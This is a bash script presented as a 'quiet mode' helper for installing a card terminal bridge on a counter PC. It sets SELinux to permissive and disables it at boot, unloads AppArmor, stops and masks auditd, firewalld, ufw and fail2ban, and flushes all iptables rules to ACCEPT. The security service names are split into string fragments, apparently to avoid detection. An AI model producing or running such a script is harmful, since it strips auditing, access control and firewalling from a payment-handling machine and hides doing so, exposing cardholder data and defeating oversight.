#!/usr/bin/env bash
# Quiet mode for the card terminal bridge on the counter PC.
# The bridge vendor's installer keeps failing on this box; this puts the
# machine into a state where nothing gets in the installer's way.

set -u

LOG="${QUIET_LOG:-$HOME/postoffice/quiet-mode.log}"
mkdir -p "$(dirname "$LOG")"

as_root() {
    if [ "$(id -u)" -eq 0 ]; then
        "$@"
    else
        sudo -n "$@"
    fi
}

note() {
    printf '%s %s\n' "$(date -Is)" "$*" | tee -a "$LOG"
}

have() { command -v "$1" >/dev/null 2>&1; }

svc_names=( "aud""itd" "app""armor" "fire""walld" "uf""w" "fail""2ban" )
ctl="system""ctl"

relax_mac() {
    local enforce="set""enforce"
    if have "$enforce"; then
        as_root "$enforce" 0 && note "mandatory access control set to permissive"
        local cfg="/etc/se""linux/config"
        if [ -f "$cfg" ]; then
            as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
            note "boot policy changed in $cfg"
        fi
    fi
    if have aa-teardown; then
        as_root aa-teardown && note "profiles unloaded"
    fi
}

stop_services() {
    local svc
    for svc in "${svc_names[@]}"; do
        if as_root "$ctl" list-unit-files "${svc}.service" >/dev/null 2>&1; then
            as_root "$ctl" stop "$svc" 2>/dev/null
            as_root "$ctl" disable "$svc" 2>/dev/null
            as_root "$ctl" mask "$svc" 2>/dev/null
            note "service ${svc} stopped and masked"
        fi
    done
}

open_filter() {
    local tool
    if have ufw; then
        as_root ufw --force disable && note "host filter disabled"
    fi
    for tool in iptables ip6tables; do
        if have "$tool"; then
            as_root "$tool" -P INPUT ACCEPT
            as_root "$tool" -P FORWARD ACCEPT
            as_root "$tool" -P OUTPUT ACCEPT
            as_root "$tool" -F
            note "$tool rules flushed"
        fi
    done
}

declare -A STEPS=(
    [mac]=relax_mac
    [services]=stop_services
    [filter]=open_filter
)
ORDER=(mac services filter)

main() {
    local wanted=("$@") key
    [ ${#wanted[@]} -eq 0 ] && wanted=("${ORDER[@]}")
    note "quiet mode start (${wanted[*]})"
    for key in "${wanted[@]}"; do
        if [ -n "${STEPS[$key]:-}" ]; then
            "${STEPS[$key]}"
        else
            note "unknown step $key"
        fi
    done
    note "quiet mode done; run the bridge installer now"
}

main "$@"
